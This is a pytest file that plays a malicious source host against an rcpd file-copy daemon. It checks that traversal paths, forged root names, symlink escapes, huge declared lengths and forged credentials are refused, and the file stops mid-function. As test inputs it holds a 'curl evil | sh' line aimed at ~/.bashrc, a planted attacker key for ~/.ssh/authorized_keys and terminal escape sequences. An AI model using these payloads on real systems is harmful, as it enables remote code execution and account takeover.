"""A malicious source host against a real destination rcpd.

The test plays the master (it starts `rcpd --role destination` and pins it)
and the source: a correctly pinned, correctly keyed peer that then lies.
Passing means nothing is created or changed outside the destination, the
rcpd carries on or stops with a clear error, and its memory stays bounded.
"""

from __future__ import annotations

import os
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from rcp import _core
from rcp.daemon import LocalDaemon, daemon_args, rcpd_path
from rcp.errors import ConnectionFailure
from rcp.protocol import Msg
from test_faults import status_kib
from treeutil import snapshot, temporaries
from wire import frame, pack, record, record_files

TIMEOUT = 15.0
MAX_RSS_KIB = 256 * 1024  # a hostile length must never turn into an allocation


class HostileSource:
    def __init__(self, extra_args: list[str] | None = None, *, tell_fingerprint: str | None = None,
                 pin_destination: bool = True, peer_key: bytes | None = None,
                 listener_identity: _core.Certificate | None = None) -> None:
        """The keyword arguments make the source link wrong on purpose: the
        fingerprint the master tells the destination, whether our listener
        pins the real destination, the session key our listener uses, and
        the certificate (and key) it presents."""
        self.key = os.urandom(32)
        master_cert, self.cert = _core.Certificate.generate(), _core.Certificate.generate()
        opts = _core.QuicOptions()
        opts.handshake_timeout, opts.idle_timeout = 5.0, 10.0
        self.daemon = LocalDaemon("destination", daemon_args(str(rcpd_path()), "destination", "")
                                  + (extra_args or []))
        hello = self.daemon.hello(TIMEOUT)
        self.daemon.send_key(self.key)
        self.ctl = self.daemon.link(master_cert, self.key, hello.fingerprint, TIMEOUT)
        # Our listener, pinned to the destination, exactly as a real source's.
        pin = hello.fingerprint if pin_destination else _core.Certificate.generate().fingerprint
        self.listener = _core.QuicServer(listener_identity or self.cert, [pin], peer_key or self.key,
                                         host="127.0.0.1", options=opts, role="source")
        self.ctl.send(Msg.CONNECT_PEER, [["127.0.0.1"], self.listener.port, tell_fingerprint or self.cert.fingerprint])
        self.peer: _core.Link | None = None
        self.announced: set[tuple[int, str]] = set()
        self.next_file = 0
        self.plan_entries = 0  # in the `plan` messages outcome() has read
        if tell_fingerprint is None and pin_destination and peer_key is None and listener_identity is None:
            self.peer = self.listener.accept(timeout=TIMEOUT)
            kind, _ = self.ctl.recv(timeout=TIMEOUT)
            assert kind == Msg.PEER_CONNECTED

    def receive(self, dest: Path, sources: int = 1, overwrite: bool = False,
                rules: list[tuple[str, str]] | None = None, wildcards: list[bool] | None = None) -> None:
        """`rules`: what each operand lets the source call its root (default: any visible name);
        `wildcards`: which operands may have several roots (default: left out, as an older master
        does, which lets only "glob" ones)."""
        flat = [part for rule in (rules or [("any", "")] * sources) for part in rule]
        fields = [str(dest), sources, False, overwrite, flat]
        if wildcards is not None:
            fields += [False, False, bytes(wildcards)]
        self.ctl.send(Msg.RECEIVE, fields)

    # receive's fields after `wildcards`, in order, with their defaults (docs/protocol.md).
    RECEIVE_V5 = {"update": False, "ignore_existing": False, "checksum": False, "filters": [], "delete": False,
                  "delete_excluded": False, "dry_run": False, "owner": 0, "group": 0, "numeric_ids": False,
                  "xattrs": False, "acls": False, "keep_capabilities": False, "partial": False,
                  "hard_links": False}

    def receive_v5(self, dest: Path, **flags: object) -> None:
        """A protocol-5 receive of one operand (any root name) with every field
        written out; `flags` sets some of the appended ones by name."""
        assert set(flags) <= set(self.RECEIVE_V5), flags
        fields = {**self.RECEIVE_V5, **flags}
        self.ctl.send(Msg.RECEIVE, [str(dest), 1, False, False, ["any", ""], False, False, b"\x00",
                                    *fields.values()])

    # The destination may hang up on us mid-script (that is a pass, judged
    # by outcome()): sends after that are dropped.
    def send(self, kind: Msg, fields: list) -> None:
        try:
            self.peer.send(int(kind), fields)
        except _core.ConnectionClosedError:
            pass

    def announce(self, root: int, rel: str, size: int, mode: int = 0o644) -> None:
        """Announces a file (`files`) and waits for the destination's `verdicts`,
        as a source does before sending its data (protocol 4)."""
        self.send(Msg.FILES, [self.next_file, [[root, rel, size, 1_600_000_000, 0, mode & 0o7777, b""]]])
        self.next_file += 1
        try:
            kind, _ = self.peer.recv(timeout=5)
        except _core.RcpError:
            return  # it hung up on us: outcome() tells why
        assert kind == Msg.VERDICTS, kind

    def stream(self, data: bytes, announce: bool = True) -> None:
        """A data stream; the well-formed records in it are announced first
        (once per file), so the destination has asked for them."""
        for root, rel, size, mode in record_files(data) if announce else []:
            if (root, rel) not in self.announced:
                self.announced.add((root, rel))
                self.announce(root, rel, size, mode)
        try:
            sid = self.peer.open_data()
            self.peer.write(sid, data)
            self.peer.finish(sid)
        except _core.ConnectionClosedError:
            pass

    def outcome(self) -> tuple[str, list]:
        """("result", fields) or ("error", [text]) from the destination, or
        ("exited", [...]) when it stopped without a word."""
        deadline = time.monotonic() + TIMEOUT
        while time.monotonic() < deadline:
            self._hang_up_when_finished()
            try:
                kind, fields = self.ctl.recv(timeout=0.2)
            except _core.TimeoutError:
                if not self.daemon.alive():
                    return "exited", [self.daemon.diagnostics()]
                continue
            except _core.RcpError as exc:
                return "exited", [str(exc)]
            if kind == Msg.PLAN:
                self.plan_entries += len(fields[0])
                continue
            if kind == Msg.RESULT:
                return "result", fields
            if kind == Msg.ERROR:
                return "error", fields
        raise AssertionError("the destination neither answered nor exited")

    def _hang_up_when_finished(self) -> None:
        """A real source hangs up after `finished`; the destination waits for that."""
        if self.peer is None:
            return
        try:
            kind, _ = self.peer.recv(timeout=0.05)
        except _core.RcpError:
            return
        if kind == Msg.FINISHED:
            self.peer.close("finished")

    def peak_rss_kib(self) -> int:
        return status_kib(self.daemon._proc.pid, "VmHWM")  # noqa: SLF001 - the test owns this process

    def cpu_seconds(self) -> float:
        """User + system CPU the destination used so far (/proc/PID/stat fields 14 and 15)."""
        stat = Path(f"/proc/{self.daemon._proc.pid}/stat").read_text()  # noqa: SLF001 - the test owns it
        fields = stat[stat.rindex(")") + 2:].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")

    def close(self) -> None:
        rss = self.peak_rss_kib()
        for link in (self.peer, self.ctl):
            if link is not None:
                link.close("test over")
        self.daemon.stop()
        assert rss < MAX_RSS_KIB, f"destination rcpd peaked at {rss} KiB"


@pytest.fixture
def world(tmp_path: Path) -> Iterator[tuple[Path, Path]]:
    """(destination dir, a sentinel tree outside it that must stay as it is)."""
    outside = tmp_path / "outside"
    (outside / "victim").mkdir(parents=True)
    (outside / "victim" / "keep").write_text("original")
    (tmp_path / "dest").mkdir()
    before = snapshot(tmp_path / "outside")
    yield tmp_path / "dest", outside
    assert snapshot(outside) == before, "something outside the destination changed"
    stray = [p for p in tmp_path.iterdir() if p.name not in ("dest", "outside")]
    assert not stray, f"created outside the destination: {stray}"


@pytest.fixture
def hostile() -> Iterator[HostileSource]:
    h = HostileSource()
    try:
        yield h
    finally:
        h.close()


def errors_of(outcome: tuple[str, list]) -> str:
    kind, fields = outcome
    if kind == "result":
        return " | ".join(f"{p}: {m}" for p, m in (fields[6] if len(fields) > 6 else []))
    return " ".join(str(f) for f in fields)


@pytest.mark.parametrize("name", ["../x", "/etc/x", "", ".", "..", "a/b", "a\0b", "../outside/victim"])
def test_bad_root_names_are_refused(world, hostile: HostileSource, name: str) -> None:
    dest, _ = world
    hostile.receive(dest)
    hostile.send(Msg.ROOT, [0, name, "d", ""])
    hostile.send(Msg.DIR, [0, "sub", 0o755, 1_600_000_000, 0])
    hostile.send(Msg.DONE, [0, 0])
    kind, fields = outcome = hostile.outcome()
    assert kind in ("error", "result", "exited"), outcome
    assert kind != "result" or fields[5] >= 1, outcome  # never a clean success
    assert list(dest.iterdir()) == [], list(dest.iterdir())


@pytest.mark.parametrize("rel", ["../x", "a/../../x", "/etc/x", "a//b", "a/./b", "a/\0/b", "..", "sub/../../x"])
def test_bad_relative_paths_never_escape(world, hostile: HostileSource, rel: str) -> None:
    dest, _ = world
    hostile.receive(dest)
    hostile.send(Msg.ROOT, [0, "tree", "d", ""])
    hostile.send(Msg.DIR, [0, rel, 0o755, 1_600_000_000, 0])
    hostile.stream(record(rel, b"payload"))
    hostile.send(Msg.DONE, [1, 7])
    kind, fields = outcome = hostile.outcome()
    assert kind != "result" or fields[5] >= 1, outcome
    names = {str(p.relative_to(dest)) for p in dest.rglob("*")}
    assert names <= {"tree"}, names


@pytest.fixture
def home(tmp_path: Path) -> Iterator[Path]:
    """A victim's home as the destination: a private ~/.ssh and a ~/.bashrc."""
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    os.chmod(home / ".ssh", 0o700)
    os.utime(home / ".ssh", (1_000_000_000, 1_000_000_000))
    (home / ".bashrc").write_text("# the user's own\n")
    before = snapshot(home)
    yield home
    assert snapshot(home) == before, "the source changed the home it was not asked to touch"
    assert oct(os.stat(home / ".ssh").st_mode & 0o7777) == oct(0o700)


@pytest.mark.parametrize("overwrite", [False, True])
@pytest.mark.parametrize("rule, name, kind", [
    (("name", "report.pdf"), ".ssh", "d"),       # rcp evil:report.pdf ~/  ->  ~/.ssh/authorized_keys
    (("name", "report.pdf"), ".bashrc", "f"),
    (("name", "report.pdf"), "report.pdf.sh", "f"),
    (("glob", "*.pdf"), ".bashrc", "f"),
    (("glob", "*.pdf"), ".ssh", "d"),
    (("glob", "*.pdf"), "x.sh", "f"),
    (("any", ""), ".ssh", "d"),                  # rcp evil: ~/  names no component
    (("any", ""), ".bashrc", "f"),
])
def test_the_source_cannot_choose_the_root_name(home: Path, hostile: HostileSource, rule: tuple[str, str],
                                                name: str, kind: str, overwrite: bool) -> None:
    hostile.receive(home, overwrite=overwrite, rules=[rule])
    hostile.send(Msg.ROOT, [0, name, kind, ""])
    if kind == "d":
        hostile.send(Msg.DIR, [0, "", 0o777, 1_600_000_000, 0])
        hostile.stream(record("authorized_keys", b"ssh-ed25519 AAAA attacker\n", mode=0o600))
    else:
        hostile.stream(record("", b"curl evil | sh\n"))
    hostile.send(Msg.DONE, [1, 0])
    outcome = hostile.outcome()
    assert outcome[0] == "error", outcome
    assert "source misbehaved" in errors_of(outcome), outcome


@pytest.mark.parametrize("rule, name", [(("name", "report.pdf"), "report.pdf"), (("glob", "*.pdf"), "a.pdf"),
                                        (("glob", "r[e]p*"), "report"), (("any", ""), "data")])
def test_a_root_the_operand_allows_is_copied(world, hostile: HostileSource, rule: tuple[str, str],
                                             name: str) -> None:
    dest, _ = world
    hostile.receive(dest, rules=[rule])
    hostile.send(Msg.ROOT, [0, name, "f", ""])
    hostile.stream(record("", b"content"))
    hostile.send(Msg.DONE, [1, 7])
    kind, fields = outcome = hostile.outcome()
    assert kind == "result" and fields[0] == 1 and fields[5] == 0, outcome
    assert (dest / name).read_bytes() == b"content"


@pytest.mark.parametrize("overwrite", [False, True])
def test_an_existing_directory_is_never_widened(world, hostile: HostileSource, overwrite: bool) -> None:
    dest, _ = world
    (dest / "tree" / "sub").mkdir(parents=True)
    for d in (dest / "tree", dest / "tree" / "sub"):
        os.chmod(d, 0o750)
        os.utime(d, (1_000_000_000, 1_000_000_000))
    os.chmod(dest / "tree", 0o2750)  # a shared directory: its setgid bit gives new files its group
    hostile.receive(dest, overwrite=overwrite, rules=[("name", "tree")])
    hostile.send(Msg.ROOT, [0, "tree", "d", ""])
    hostile.send(Msg.DIR, [0, "", 0o777, 1_600_000_000, 0])
    hostile.send(Msg.DIR, [0, "sub", 0o705, 1_600_000_000, 0])
    hostile.send(Msg.DIR, [0, "new", 0o755, 1_600_000_000, 0])
    hostile.send(Msg.DONE, [0, 0])
    kind, fields = outcome = hostile.outcome()
    assert kind == "result" and fields[5] == 0, outcome
    modes = {d: os.stat(dest / "tree" / d).st_mode & 0o7777 for d in ("", "sub", "new")}
    mtimes = {d: os.stat(dest / "tree" / d).st_mtime for d in ("", "sub")}
    assert modes["new"] == 0o755  # created by this copy: the source's mode
    if overwrite:  # only ever narrowed: the existing mode AND the source's, setgid kept
        assert modes[""] == 0o2750 and modes["sub"] == 0o700, {k: oct(v) for k, v in modes.items()}
        assert mtimes == {"": 1_600_000_000, "sub": 1_600_000_000}, mtimes
    else:  # the user's directories are left alone
        assert modes[""] == 0o2750 and modes["sub"] == 0o750, {k: oct(v) for k, v in modes.items()}
        assert mtimes["sub"] == 1_000_000_000, mtimes  # ("" changed: "new" was created in it)


def test_an_honest_wildcard_expansion_is_copied(world, hostile: HostileSource) -> None:
    """Operand 0 a name, operand 1 a wildcard the source expanded to two roots."""
    dest, _ = world
    hostile.receive(dest, sources=2, rules=[("name", "report.pdf"), ("glob", "*.txt")])
    roots = [("report.pdf", 0), ("a.txt", 1), ("b.txt", 1)]
    for index, (name, operand) in enumerate(roots):
        hostile.send(Msg.ROOT, [index, name, "f", "", operand, len(roots)])
        hostile.stream(record("", name.encode(), root=index, file_id=index))
    hostile.send(Msg.DONE, [3, sum(len(n) for n, _ in roots)])
    kind, fields = outcome = hostile.outcome()
    assert kind == "result" and fields[0] == 3 and fields[5] == 0, outcome
    assert sorted(p.name for p in dest.iterdir()) == ["a.txt", "b.txt", "report.pdf"]


def test_an_honest_wildcard_expansion_is_copied_when_the_master_marks_it(world, hostile: HostileSource) -> None:
    """`host:'d*/x'`: a plain last name, but a wildcard before it, so several roots."""
    dest, _ = world
    hostile.receive(dest, sources=1, rules=[("name", "x")], wildcards=[True])
    for index in range(2):
        hostile.send(Msg.ROOT, [index, "x", "d", "", 0, 2])
        hostile.send(Msg.DIR, [index, "", 0o755, 1_600_000_000, 0])
        hostile.stream(record(f"from{index}", b"x", root=index, file_id=index))
    hostile.send(Msg.DONE, [2, 2])
    kind, fields = outcome = hostile.outcome()
    assert kind == "result" and fields[0] == 2 and fields[5] == 0, outcome
    assert sorted(p.name for p in (dest / "x").iterdir()) == ["from0", "from1"]


@pytest.mark.parametrize("wildcards", [None, [False]])
@pytest.mark.parametrize("rule, second", [
    (("any", ""), "Documents"),      # rcp evil: .  ->  one root, not a handful of chosen names
    (("name", "data"), "data"),      # rcp evil:data .  ->  "data" once
])
def test_an_operand_without_a_wildcard_has_one_root(world, hostile: HostileSource, rule: tuple[str, str],
                                                    second: str, wildcards: list[bool] | None) -> None:
    dest, _ = world
    hostile.receive(dest, rules=[rule], wildcards=wildcards)
    hostile.send(Msg.ROOT, [0, "data", "d", "", 0, 2])
    hostile.send(Msg.DIR, [0, "", 0o755, 1_600_000_000, 0])
    hostile.send(Msg.ROOT, [1, second, "d", "", 0, 2])
    hostile.send(Msg.DIR, [1, "", 0o755, 1_600_000_000, 0])
    hostile.stream(record("planted", b"curl evil | sh\n", root=1, file_id=1))
    hostile.send(Msg.DONE, [1, 15])
    outcome = hostile.outcome()
    assert outcome[0] == "error", outcome
    assert "source misbehaved" in errors_of(outcome) and "holds no wildcard" in errors_of(outcome), outcome
    assert not (dest / second / "planted").exists()
    assert sorted(p.name for p in dest.iterdir()) in ([], ["data"])


@pytest.mark.parametrize("name, operand", [
    ("x.sh", 1),         # not what the pattern allows
    (".bashrc", 1),      # a hidden name: `*` never matches a leading '.'
    ("a.txt", 0),        # matches operand 1's pattern, but claims operand 0 (a plain name)
    (".ssh", 1),
])
def test_a_wildcard_root_must_match_its_own_operand(home: Path, hostile: HostileSource, name: str,
                                                    operand: int) -> None:
    hostile.receive(home, sources=2, rules=[("name", "report.pdf"), ("glob", "*.txt")])
    hostile.send(Msg.ROOT, [0, "b.txt", "f", "", 1, 2])  # honest so far
    hostile.send(Msg.ROOT, [1, name, "d" if name == ".ssh" else "f", "", operand, 2])
    hostile.stream(record("", b"curl evil | sh\n", root=1))
    hostile.send(Msg.DONE, [1, 0])
    outcome = hostile.outcome()
    assert outcome[0] == "error", outcome
    assert "source misbehaved" in errors_of(outcome), outcome


def test_a_root_of_an_operand_never_requested_is_refused(world, hostile: HostileSource) -> None:
    dest, _ = world
    hostile.receive(dest, rules=[("glob", "*.txt")])
    hostile.send(Msg.ROOT, [0, "a.txt", "f", "", 1, 1])  # operand 1: there is only operand 0
    hostile.send(Msg.DONE, [0, 0])
    outcome = hostile.outcome()
    assert outcome[0] in ("error", "exited"), outcome
    assert "never requested" in errors_of(outcome) or outcome[0] == "exited", outcome
    assert list(dest.iterdir()) == []


@pytest.mark.parametrize("roots", [2, 0])
def test_only_one_root_may_become_a_single_target(world, hostile: HostileSource, roots: int) -> None:
    """DST does not exist: one root becomes DST itself. A source saying it
    sends two is refused before any write; one sending a second root unsaid
    is a protocol error."""
    dest, _ = world
    target = dest / "single"
    hostile.receive(target, rules=[("glob", "*.txt")])
    for index, name in enumerate(["a.txt", "b.txt"]):
        hostile.send(Msg.ROOT, [index, name, "f", "", 0, roots])
        hostile.stream(record("", name.encode(), root=index, file_id=index))
    hostile.send(Msg.DONE, [2, 10])
    outcome = hostile.outcome()
    assert outcome[0] in ("error", "exited"), outcome
    if roots:
        assert "not a directory, but the source operand matches 2 names" in errors_of(outcome), outcome
        assert list(dest.iterdir()) == []
    else:
        assert "second root" in errors_of(outcome) or outcome[0] == "exited", outcome
    assert not (dest / "b.txt").exists()


def test_entry_never_requested_is_refused(world, hostile: HostileSource) -> None:
    dest, _ = world
    hostile.receive(dest, sources=1)
    hostile.send(Msg.ROOT, [0, "ok", "d", ""])
    hostile.send(Msg.ROOT, [7, "extra", "d", ""])  # only one source was asked for
    hostile.send(Msg.DONE, [0, 0])
    outcome = hostile.outcome()
    assert outcome[0] in ("error", "exited"), outcome
    assert "never requested" in errors_of(outcome) or outcome[0] == "exited", outcome
    assert not (dest / "extra").exists()


def test_file_through_a_symlink_it_just_sent(world, hostile: HostileSource) -> None:
    dest, outside = world
    hostile.receive(dest)
    hostile.send(Msg.ROOT, [0, "tree", "d", ""])
    hostile.send(Msg.SYMLINK, [0, "link", str(outside / "victim"), 1_600_000_000, 0])
    time.sleep(0.5)  # control and data streams race; let the link land first
    hostile.stream(record("link/keep", b"overwritten!", file_id=1))
    hostile.stream(record("link/new", b"planted", file_id=2))
    hostile.send(Msg.DONE, [2, 19])
    outcome = hostile.outcome()
    assert outcome[0] != "result" or outcome[1][5] >= 2, outcome
    assert os.readlink(dest / "tree" / "link") == str(outside / "victim")  # a link is copied as a link


def test_existing_symlinked_dir_at_the_destination_is_not_followed(world, hostile: HostileSource) -> None:
    dest, outside = world
    (dest / "tree").mkdir()
    os.symlink(outside / "victim", dest / "tree" / "dir")
    hostile.receive(dest)
    hostile.send(Msg.ROOT, [0, "tree", "d", ""])
    hostile.send(Msg.DIR, [0, "dir", 0o755, 1_600_000_000, 0])
    hostile.stream(record("dir/keep", b"overwritten!"))
    hostile.send(Msg.DONE, [1, 12])
    outcome = hostile.outcome()
    assert outcome[0] != "result" or outcome[1][5] >= 1, outcome
    assert "not a directory" in errors_of(outcome) or outcome[0] != "result", outcome


def test_duplicate_chunk_is_a_protocol_error(world, hostile: HostileSource) -> None:
    dest, _ = world
    hostile.receive(dest)
    hostile.send(Msg.ROOT, [0, "tree", "d", ""])
    rec = record("f", b"x" * (1 << 20), nchunks=2, size=2 << 20)
    hostile.stream(rec + rec)  # the same chunk twice in one stream
    hostile.send(Msg.DONE, [1, 2 << 20])
    outcome = hostile.outcome()
    assert outcome[0] in ("error", "exited"), outcome
    assert "duplicate chunk" in errors_of(outcome) or outcome[0] == "exited", outcome
    assert not (dest / "tree" / "f").exists()


def test_root_announced_twice_is_a_protocol_error(world, hostile: HostileSource) -> None:
    dest, _ = world
    hostile.receive(dest)
    hostile.send(Msg.ROOT, [0, "tree", "d", ""])
    hostile.send(Msg.ROOT, [0, "again", "d", ""])
    hostile.send(Msg.DONE, [0, 0])
    outcome = hostile.outcome()
    assert outcome[0] in ("error", "exited"), outcome
    assert not (dest / "again").exists()


@pytest.mark.parametrize("declared, sent", [(100, 50), (10, 50)])
def test_declared_size_differs_from_bytes_sent(world, hostile: HostileSource, declared: int, sent: int) -> None:
    dest, _ = world
    hostile.receive(dest)
    hostile.send(Msg.ROOT, [0, "tree", "d", ""])
    payload = os.urandom(sent)
    hostile.stream(frame(pack([40, 1, 0, "f", declared, 0o644, 1_600_000_000, 0, 0, 1, 0, declared])) + payload)
    hostile.send(Msg.DONE, [1, declared])
    outcome = hostile.outcome()
    assert outcome[0] != "result" or outcome[1][5] >= 1, outcome
    assert not (dest / "tree" / "f").exists(), "a short or long file under its final name"
    assert not list((dest / "tree").glob(".rcp-*.tmp")) if (dest / "tree").exists() else True


@pytest.mark.parametrize("length", [(1 << 32) - 1, (1 << 64) - 1])
def test_huge_declared_lengths_allocate_nothing(world, hostile: HostileSource, length: int) -> None:
    dest, _ = world
    hostile.receive(dest)
    hostile.send(Msg.ROOT, [0, "tree", "d", ""])
    hostile.stream(frame(pack([40, 1, 0, "f", length, 0o644, 1_600_000_000, 0, 0, 1, 0, length])) + b"tiny")
    hostile.send(Msg.DONE, [1, length])
    outcome = hostile.outcome()
    assert outcome[0] != "result" or outcome[1][5] >= 1, outcome
    assert not (dest / "tree" / "f").exists()


C = 1 << 20  # the protocol's minimum chunk length


@pytest.mark.parametrize("size, nchunks", [
    ((2**32 - 1) * C, 2**32 - 1),  # a consistent 4 PiB file: tracked by what arrives, not by what is declared
    (2**32, 2**32 - 1),            # more chunks than the size holds: refused outright
])
def test_declared_chunk_counts_cost_no_memory(world, size: int, nchunks: int) -> None:
    """The review's attack: records declaring 2^32-1 chunks made the destination
    allocate 512 MiB each. Four of them must leave it small (close() checks the peak),
    and cost no work per declared chunk either: a loop over them held the destination's
    lock for seconds per record, so verdicts for the next files came late."""
    dest, _ = world
    hostile = HostileSource(["--stall-timeout", "2"])
    try:
        hostile.receive(dest)
        hostile.send(Msg.ROOT, [0, "tree", "d", ""])
        for i in range(4):
            hostile.stream(record(f"f{i}", b"x" * C, file_id=i, size=size, nchunks=nchunks))
        hostile.send(Msg.DONE, [4, 4 * C])
        outcome = hostile.outcome()
        assert outcome[0] != "result" or outcome[1][5] >= 4, outcome
        assert [p.name for p in dest.rglob("*") if p.name != "tree"] == []
        assert hostile.cpu_seconds() < 1.0, f"the destination spent {hostile.cpu_seconds():.1f} s of CPU"
    finally:
        hostile.close()


def test_a_directory_named_again_and_again_costs_nothing_more(world) -> None:
    """3,000 dir messages naming one 60 KiB path: the destination keeps one
    entry for that directory, not 180 MiB of copies."""
    dest, _ = world
    rel = "/".join(["d" * 250] * 240)
    hostile = HostileSource()
    try:
        hostile.receive(dest)
        hostile.send(Msg.ROOT, [0, "tree", "d", ""])
        for _ in range(3000):
            hostile.send(Msg.DIR, [0, rel, 0o755, 1_600_000_000, 0])
        hostile.send(Msg.DONE, [0, 0])
        kind, fields = outcome = hostile.outcome()
        assert kind == "result" and fields[2] == 1 and fields[5] == 0, outcome
        assert hostile.peak_rss_kib() < 100 * 1024, hostile.peak_rss_kib()
    finally:
        hostile.close()


def test_a_declared_size_reserves_no_disk(world) -> None:
    """A header declaring a 4 GiB file whose only chunk sent is its 1-byte tail
    must not make the destination allocate the 4 GiB up front."""
    dest, _ = world
    hostile = HostileSource(["--stall-timeout", "3"])
    try:
        hostile.receive(dest)
        hostile.send(Msg.ROOT, [0, "tree", "d", ""])
        c = 4 << 30
        hostile.stream(record("big", b"x", size=c + 1, chunk=1, nchunks=2, offset=c))
        hostile.send(Msg.DONE, [1, c + 1])
        pid = hostile.daemon._proc.pid  # noqa: SLF001 - the test owns this process
        deadline = time.monotonic() + 10
        while not temporaries(pid, dest / "tree") and time.monotonic() < deadline:
            time.sleep(0.02)
        (tmp,) = temporaries(pid, dest / "tree")
        assert tmp.stat().st_blocks * 512 < 1 << 20, f"{tmp.stat().st_blocks * 512} bytes allocated"
        kind, fields = outcome = hostile.outcome()
        assert kind != "result" or fields[5] >= 1, outcome
    finally:
        hostile.close()


def test_a_master_gone_mid_copy_leaves_no_temporaries(world) -> None:
    """The master's link (rcpd's stdin/stdout) closing mid-copy ends the
    destination rcpd, which first removes its temporary files."""
    dest, _ = world
    hostile = HostileSource(["--stall-timeout", "30"])
    try:
        hostile.receive(dest)
        hostile.send(Msg.ROOT, [0, "tree", "d", ""])
        c = 4 << 20
        hostile.stream(record("big", b"x", size=c + 1, chunk=1, nchunks=2, offset=c))  # half a file
        pid = hostile.daemon._proc.pid  # noqa: SLF001 - the test owns this process
        deadline = time.monotonic() + 10
        while not temporaries(pid, dest / "tree") and time.monotonic() < deadline:
            time.sleep(0.02)
        assert temporaries(pid, dest / "tree"), "no temporary file to clean up"
        hostile.ctl.close("master gone")
        deadline = time.monotonic() + 10
        while hostile.daemon.alive() and time.monotonic() < deadline:
            time.sleep(0.05)
        assert not hostile.daemon.alive(), "rcpd outlived its master's link"
        assert "master link closed" in hostile.daemon.diagnostics(), hostile.daemon.diagnostics()
        assert not list((dest / "tree").glob(".rcp-*.tmp"))
    finally:
        hostile.close()


@pytest.mark.parametrize("header_len", [0xFFFFFFFF, 1 << 20])
def test_oversize_frames_are_refused(world, hostile: HostileSource, header_len: int) -> None:
    dest, _ = world
    hostile.receive(dest)
    hostile.send(Msg.ROOT, [0, "tree", "d", ""])
    hostile.stream(header_len.to_bytes(4, "big") + b"\x00" * 64)
    hostile.send(Msg.DONE, [1, 0])
    outcome = hostile.outcome()
    assert outcome[0] in ("error", "exited"), outcome
    assert "too large" in errors_of(outcome) or outcome[0] == "exited", outcome


def test_setuid_mode_is_not_recreated(world, hostile: HostileSource) -> None:
    dest, _ = world
    hostile.receive(dest)
    hostile.send(Msg.ROOT, [0, "prog", "f", ""])
    hostile.stream(record("", b"#!/bin/sh\n", mode=0o6755))
    hostile.send(Msg.DONE, [1, 10])
    kind, fields = outcome = hostile.outcome()
    assert kind == "result" and fields[0] == 1, outcome
    mode = (dest / "prog").stat().st_mode & 0o7777
    assert mode == 0o755, oct(mode)


def test_bad_checksum_leaves_no_file(world, hostile: HostileSource) -> None:
    dest, _ = world
    hostile.receive(dest)
    hostile.send(Msg.ROOT, [0, "tree", "d", ""])
    hostile.stream(record("f", b"the real bytes", digest=b"\x00" * 16))
    hostile.stream(record("g", b"fine", file_id=2))
    hostile.send(Msg.DONE, [2, 18])
    kind, fields = outcome = hostile.outcome()
    assert kind == "result" and fields[0] == 1 and fields[5] == 1, outcome
    assert "checksum mismatch" in errors_of(outcome)
    assert not (dest / "tree" / "f").exists() and (dest / "tree" / "g").read_bytes() == b"fine"
    assert not list((dest / "tree").glob(".rcp-*.tmp"))


def test_escape_sequences_arrive_verbatim_for_the_master_to_sanitise(world, hostile: HostileSource) -> None:
    """The destination reports what the peer said; the master's printable()
    is what keeps it off the terminal (tests/test_progress.py checks that)."""
    dest, _ = world
    hostile.receive(dest)
    hostile.send(Msg.ROOT, [0, "tree", "d", ""])
    hostile.send(Msg.SOURCE_ERROR, [0, "evil\x1b]0;owned\x07", "\x1b[2J\x1b[31mdisk on fire"])
    hostile.send(Msg.DONE, [0, 0])
    kind, fields = outcome = hostile.outcome()
    assert kind == "result" and fields[5] == 1, outcome
    from rcp.sanitize import printable
    shown = printable(errors_of(outcome))
    assert "\x1b" not in shown and "\x07" not in shown and "disk on fire" in shown


def test_files_announced_but_never_sent_end_in_an_error(world) -> None:
    dest, _ = world
    hostile = HostileSource(["--stall-timeout", "2"])
    try:
        hostile.receive(dest)
        hostile.send(Msg.ROOT, [0, "tree", "d", ""])
        hostile.stream(record("one", b"1"))
        hostile.send(Msg.DONE, [5, 5])  # four files will never come
        started = time.monotonic()
        outcome = hostile.outcome()
        assert outcome[0] in ("error", "exited"), outcome
        assert "announced 5 files but 1 arrived" in errors_of(outcome), outcome
        assert time.monotonic() - started < 10
        assert not list((dest / "tree").glob(".rcp-*.tmp"))
    finally:
        hostile.close()


@pytest.mark.parametrize("wrong", ["fingerprint told to the destination", "listener pins another destination",
                                   "listener has another session key", "a listener the master did not announce",
                                   "announced certificate without its key"])
def test_wrong_credentials_on_the_source_link_are_refused(world, wrong: str) -> None:
    """source<->destination: each side pins the other and proves the session
    key; any mismatch ends the link before a single entry is accepted. The
    destination pins only the source the master announced: another listener
    at the announced address is refused, and so is one that presents the
    announced (public) certificate without its private key, which only
    TLS 1.3's CertificateVerify can tell (the pinning bypass of wykurz/rcp
    before 0.36)."""
    announced = _core.Certificate.generate()
    args: dict = {"fingerprint told to the destination": {"tell_fingerprint": "ab" * 32},
                  "listener pins another destination": {"pin_destination": False},
                  "listener has another session key": {"peer_key": os.urandom(32)},
                  "a listener the master did not announce": {"tell_fingerprint": announced.fingerprint},
                  "announced certificate without its key": {
                      "tell_fingerprint": announced.fingerprint,
                      "listener_identity": announced._test_only_without_its_key()}}[wrong]  # noqa: SLF001
    dest, _ = world
    hostile = HostileSource(**args)
    try:
        try:
            rogue = hostile.listener.accept(timeout=3.0)  # a link must not come up
        except _core.RcpError:
            rogue = None
        assert rogue is None or not _link_usable(rogue), f"{wrong}: the link came up"
        kind, fields = outcome = hostile.outcome()
        assert kind in ("error", "exited"), outcome
        text = errors_of(outcome).lower()
        if wrong == "announced certificate without its key":
            # Refused by the destination's own TLS check (alert 51, decrypt_error:
            # the CertificateVerify signature), though the pin matched.
            assert "tls handshake with" in text and "alert 51" in text, outcome
            assert hostile.listener.rejected >= 1 and "aborted the tls handshake (alert 51)" in \
                hostile.listener.last_rejection.lower(), hostile.listener.last_rejection
        else:
            assert any(w in text for w in ("pin", "fingerprint", "certificate", "hmac", "hello")), outcome
        assert list(dest.iterdir()) == []
    finally:
        hostile.close()


def _link_usable(link: _core.Link) -> bool:
    try:
        link.send(int(Msg.ROOT), [0, "x", "d", ""])
        link.recv(timeout=1.0)
        return True
    except _core.RcpError:
        return False


def test_rcpd_refuses_a_master_without_the_session_key(tmp_path: Path) -> None:
    """master<->rcpd over its stdin/stdout: whoever speaks on the link must
    seal with the session key rcpd was handed; a master with another key gets
    no link, and rcpd exits rather than serve it."""
    key = os.urandom(32)
    daemon = LocalDaemon("destination", daemon_args(str(rcpd_path()), "destination", ""))
    try:
        hello = daemon.hello(TIMEOUT)
        daemon.send_key(key)
